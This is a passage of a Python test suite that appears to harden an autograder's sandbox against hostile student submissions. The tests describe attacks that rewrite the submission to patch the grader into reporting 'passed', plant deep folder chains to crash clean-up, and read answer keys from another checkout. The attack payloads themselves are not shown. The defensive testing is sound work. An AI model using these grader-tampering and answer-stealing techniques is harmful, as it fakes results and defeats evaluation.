        spun = [c for c in graded.ex01.checks if c.status.value != "passed" and "never waited" in (c.message or "")]
        assert spun, graded.messages


class TestOnlyTheScannedFileRuns:
    """Attack 6: a clean first stage rewrites the learner's file at import (each check imports
    it afresh from disk) with a second stage that imports the grader and patches it.

    Verified against ff767da (before the defence): 10/10 in both modes, the second stage's
    patch read every failure as "passed". Today the file is read-only to the sandbox uid,
    and the plugin runs only the bytes the parent scanned: on the limits-only path (the
    child is not dropped to another uid, so the rewrite succeeds) only the latter holds."""

    def test_a_rewritten_file_is_never_run(self, hostile: Grade, mode: Limits) -> None:
        graded = hostile(attack(REWRITE_ITSELF), limits=mode)
        assert_no_better_than_unsolved(graded)


class TestADeepTreeNeitherCrashesNorOutlivesGrading:
    """Attack 7: a chain of 3000 folders in every place the child may write (cwd, TMPDIR,
    HOME). It must not crash ``grade`` or abort ``grade batch``, and the work folder is gone
    afterwards.

    Verified against ff767da (before the defence): ``grade`` exited 3 (RecursionError in
    the work folder's clean-up, shutil.rmtree) and left the work folder behind; ``grade
    batch`` exited 3 with the student "incomplete" (re-graded on every run), the work
    folder left behind too. In-process on the limits-only path the chains are on the
    parent's disk, so the parent's clean-up really meets them (asserted: "made")."""

    def test_grading_completes_and_leaves_no_work_folder(self, hostile: Grade, mode: Limits, tmp_path: Path) -> None:
        work = tmp_path / "work"  # the hostile fixture's tempfile.tempdir
        try:
            graded = hostile(attack(DEEP_CHAIN), limits=mode)
            assert_no_better_than_unsolved(graded)
            if not mode.drop_uid:
                # Not dropped to a sandbox uid: both chains are made, on the real disk.
                assert "CHAIN cwd made" in graded.output and "CHAIN TMPDIR made" in graded.output, graded.output
            assert _work_folders(work) == []
        finally:
            _remove_deep(work)

    def test_grade_does_not_crash(self, make_kit: Callable[..., Kit], tmp_path: Path, token: str) -> None:
        """``grade ex01 --target``: exit 1 (a check failed), not 3; no work folder left."""
        kit = make_kit()
        target = tmp_path / "learner"
        target.mkdir()
        (target / "ex01_hello_run.py").write_text(attack(DEEP_CHAIN), encoding="utf-8")
        work = tmp_path / "work"
        work.mkdir()
        try:
            done = _grade_cli(["ex01", "--target", str(target), "--format", "json"], kit, work)
            assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-3000:]
            assert "RecursionError" not in done.stdout + done.stderr
            ex01 = json.loads(done.stdout)["exercises"][0]
            assert ex01["score"] <= UNSOLVED_SCORE, ex01
            assert _work_folders(work) == []
            left = _leftovers((str(tmp_path), token))
            assert not left, "processes outlived grading:\n" + "\n".join(left)
        finally:
            _remove_deep(work)

    def test_grade_batch_completes(self, make_kit: Callable[..., Kit], tmp_path: Path, token: str) -> None:
        """``grade batch`` of the attacker and an honest student: exit 0, both graded, the
        attacker no better than unsolved, the honest student at full marks, no work folder left."""
        kit = make_kit()
        subs = tmp_path / "subs"
        for student in ("alice", "mallory"):
            (subs / student).mkdir(parents=True)
            (subs / student / "ex02_adder.py").write_text("def add(a, b):\n    return a + b\n", encoding="utf-8")
        shutil.copyfile(SOURCE_TREE / "solutions" / "ex01_hello_run.py", subs / "alice" / "ex01_hello_run.py")
        (subs / "mallory" / "ex01_hello_run.py").write_text(attack(DEEP_CHAIN), encoding="utf-8")
        work = tmp_path / "work"
        work.mkdir()
        out = tmp_path / "gradebook"
        try:
            done = _grade_cli(["batch", str(subs), "--out", str(out), "--jobs", "2", "--format", "json"], kit, work)
            assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
            rows = {row["student"]: row for row in csv.DictReader(io.StringIO((out / "gradebook.csv").read_text()))}
            assert rows["mallory"]["status"] == rows["alice"]["status"] == "graded", rows
            assert float(rows["mallory"]["ex01"]) <= UNSOLVED_SCORE, rows["mallory"]
            assert float(rows["alice"]["total"]) == float(rows["alice"]["max_total"]) == 14, rows["alice"]
            assert _work_folders(work) == []
            left = _leftovers((str(tmp_path), token))
            assert not left, "processes outlived grading:\n" + "\n".join(left)
        finally:
            _remove_deep(work)


@needs_root
class TestAnotherCheckoutOfTheKitIsUnreadable:
    """Attack 8: a copy of the kit's solutions elsewhere on the machine (another checkout,
    a course folder under /srv), read and run by the learner's code.

    Verified against ff767da, where only named places were hidden (the graded kit, the
    grader's source tree, /root, /home, the world-writable folders): 10/10. The issue
    planned an allow-list filesystem as the fix (a strict xfail until then); it is being
    built in the working tree as this is written (the child's new root holds only what a
    run needs), and stops the attack. The control shows the attack is live wherever the
    child sees the machine's filesystem: the limits-only path, which has no isolation."""

    def test_solutions_in_another_checkout_are_out_of_reach(self, hostile: Grade, token: str) -> None:
        with _another_checkout(token) as solution:
            graded = hostile(attack(OTHER_CHECKOUT), fill={"@SOLUTION@": str(solution)})
        assert_no_better_than_unsolved(graded)

    def test_control_without_isolation_the_attack_scores(self, hostile: Grade, token: str) -> None:
        """The limits-only path (no namespaces, no other root): the same submission has full marks."""
        with _another_checkout(token) as solution:
            graded = hostile(
                attack(OTHER_CHECKOUT), fill={"@SOLUTION@": str(solution)}, limits=Limits(drop_uid=False, isolate=False)
            )
        assert graded.ex01.full_marks, graded.messages


class TestBeyondTheIssue:
    """What the red team found on the way, beyond issue 13's list, each now refused by the
    parent: a stuck account never says "passed"; a line too deep to parse is interference;
    messages, errors and their number are capped; a stall between checks costs at most
    ``BETWEEN_CHECKS_S`` and a re-run, not 40 s."""

    def test_a_stuck_account_cannot_say_passed(self, hostile: Grade) -> None:
        """main sends "stuck, passed" for its check, then never returns (two checks killed)."""
        graded = hostile(submission(WRONG_GREET, STUCK_PASSED_MAIN), stuck=2)
        assert_no_better_than_unsolved(graded)

    def test_a_line_too_deep_to_parse_is_interference_not_a_grader_failure(self, hostile: Grade) -> None:
        graded = hostile(attack(FRAMES, TOO_DEEP_LINE))
        assert_no_better_than_unsolved(graded)
        message = graded.ex01.message or ""
        assert "interfered" in message and "grader itself failed" not in message, message

    def test_the_parent_holds_what_it_reads_in_bounded_memory(self, hostile: Grade) -> None:
        """64 MiB of error messages: the parent's Python allocations stay under 16 MiB."""
        started = not tracemalloc.is_tracing()
        if started:
            tracemalloc.start()
        tracemalloc.reset_peak()
        try:
            graded = hostile(submission(WRONG_GREET, ERROR_FLOOD_MAIN))
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            if started:
                tracemalloc.stop()
        assert_no_better_than_unsolved(graded)
        assert peak < 16 * 1024**2, f"the grader held {peak / 1024**2:.0f} MiB while grading"

    def test_code_between_two_checks_costs_no_more_than_a_stuck_check(self, hostile: Grade) -> None:
        """One stall after a check's verdict: ex01's grading takes no longer than ex02's (the
        same machine, at the same time) plus what one stuck check may cost."""
        graded = hostile(submission(STALL_BETWEEN_CHECKS, WRONG_MAIN))
        assert_no_better_than_unsolved(graded)
        ex02 = graded.run.exercises[1]
        # ex01 runs twice (up to the stall, then the re-run of the rest), each time with more
        # checks than ex02 has: three of ex02's durations for both (on a machine loaded well
        # past its cores, two fell short by 1%: 30.0 s against 29.7 s allowed, ex02 8.1 s).
        # The stall this guards against cost 40 s on an idle machine, where ex02 takes 1 s.
        allowed = 3 * ex02.duration_s + TIMEOUT + TEST_MARGIN_S + RESPAWN_S + 5
        assert graded.ex01.duration_s < allowed, (graded.ex01.duration_s, ex02.duration_s)

    def test_a_checks_message_stays_small(self, hostile: Grade) -> None:
        """Exceptions with 6 MB of text: what the results keep stays small."""
        graded = hostile(submission(HUGE_MESSAGES))
        assert_no_better_than_unsolved(graded)
        assert len(json.dumps([check.message for check in graded.ex01.checks])) < 30_000


# --- helpers ------------------------------------------------------------------------------


def _grade_cli(args: list[str], kit: Kit, work: Path) -> subprocess.CompletedProcess[str]:
    """``python -m grader ARGS`` on ``kit``, its work folders in ``work``."""
    env = {**os.environ, "AWAITLINGS_KIT": str(kit.root), "TMPDIR": str(work)}
    command = [sys.executable, "-m", "grader", *args]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=150, check=False)


@contextlib.contextmanager
def _another_checkout(token: str) -> Iterator[Path]:
    """The kit's solutions copied under /srv/<token>, readable by anyone as a checkout's
    files are; its ex01 solution. Removed afterwards."""
    elsewhere = Path("/srv", token)
    shutil.copytree(SOURCE_TREE / "solutions", elsewhere / "solutions")
    try:
        for path in (elsewhere, *elsewhere.rglob("*")):
            path.chmod(0o755 if path.is_dir() else 0o644)
        yield elsewhere / "solutions" / "ex01_hello_run.py"
    finally:
        shutil.rmtree(elsewhere, ignore_errors=True)


def _work_folders(work: Path) -> list[str]:
    """The sandboxes' work folders left in ``work``."""
    return sorted(path.name for path in work.iterdir() if path.name.startswith("awaitlings-"))


def _remove_deep(path: Path) -> None:
    """Whatever a failed defence left: ``rm -rf`` goes any depth (pytest's own clean-up of
    tmp_path recurses, and would fail on a 3000-deep chain)."""
    with contextlib.suppress(OSError):
        subprocess.run(["rm", "-rf", "--one-file-system", str(path)], check=False, timeout=120)
